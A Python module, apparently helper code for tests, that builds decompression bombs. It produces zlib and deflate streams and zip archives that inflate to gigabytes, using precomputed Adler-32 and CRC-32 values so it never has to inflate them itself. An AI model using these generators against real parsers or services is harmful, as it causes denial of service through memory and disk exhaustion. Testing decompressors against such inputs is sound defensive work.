"""Compression bombs made cheaply: a 4 GB deflate stream costs a few MB and a few milliseconds.

The deflate stream of a long run of one byte is one compressed 1 MB block (after a full flush the
compressor state is reset, so the next block compresses to the same bytes) repeated as often as
needed; the zlib Adler-32 and the zip CRC-32 are computed without inflating anything.
"""

from __future__ import annotations

import io
import zlib

MB = 1 << 20


def deflate_run(byte: int, megabytes: int) -> bytes:
    """A raw deflate stream (no header) of ``megabytes`` MB of ``byte``, built in O(1 MB) time."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes([byte]) * MB
    first = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(block) + comp.flush(zlib.Z_FULL_FLUSH)  # the state is reset: repeatable
    return first + again * (megabytes - 1) + comp.flush(zlib.Z_FINISH)


def zlib_bomb(megabytes: int) -> bytes:
    """A zlib stream (as in PDF FlateDecode) that inflates to ``megabytes`` MB of zeros."""
    adler = ((megabytes * MB) % 65521) << 16 | 1  # adler32 of n zero bytes: a = 1, b = n mod p
    return b"\x78\xda" + deflate_run(0, megabytes) + adler.to_bytes(4, "big")


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, i = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[i]
        vector >>= 1
        i += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """zlib's crc32_combine: the CRC-32 of A+B from crc(A), crc(B) and len(B)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # operator for one zero bit
    even = _gf2_square(odd)  # two zero bits
    odd = _gf2_square(even)  # four zero bits
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def crc_of_run(byte: int, length: int) -> int:
    """CRC-32 of ``length`` copies of ``byte`` by doubling (log2(length) combines)."""
    crc, have = zlib.crc32(bytes([byte])), 1
    result, done = 0, 0
    n = length
    while n:
        if n & 1:
            result = crc32_combine(result, crc, have) if done else crc
            done += have
        n >>= 1
        if n:
            crc = crc32_combine(crc, crc, have)
            have *= 2
    return result


ZipEntry = tuple[str, bytes, int, int]  # name, raw deflate data, inflated size, CRC-32


def zip_entry(name: str, data: bytes) -> ZipEntry:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, comp.compress(data) + comp.flush(), len(data), zlib.crc32(data)


def raw_zip(entries: list[ZipEntry]) -> bytes:
    """A zip archive of precompressed (deflate) entries; sizes must fit in 32 bits."""

    def u16(n: int) -> bytes:
        return n.to_bytes(2, "little")

    def u32(n: int) -> bytes:
        return n.to_bytes(4, "little")

    out, central = io.BytesIO(), io.BytesIO()
    for name, deflated, size, crc in entries:
        fname = name.encode()
        common = u16(0) + u16(8) + u32(0) + u32(crc) + u32(len(deflated)) + u32(size)
        common += u16(len(fname))
        central.write(b"PK\x01\x02" + u16(20) + u16(20) + common)
        central.write(u16(0) * 4 + u32(0) + u32(out.tell()) + fname)
        out.write(b"PK\x03\x04" + u16(20) + common + u16(0) + fname + deflated)
    cd = central.getvalue()
    start = out.tell()
    out.write(cd)
    n = len(entries)
    out.write(
        b"PK\x05\x06" + u16(0) + u16(0) + u16(n) + u16(n) + u32(len(cd)) + u32(start) + u16(0)
    )
    return out.getvalue()
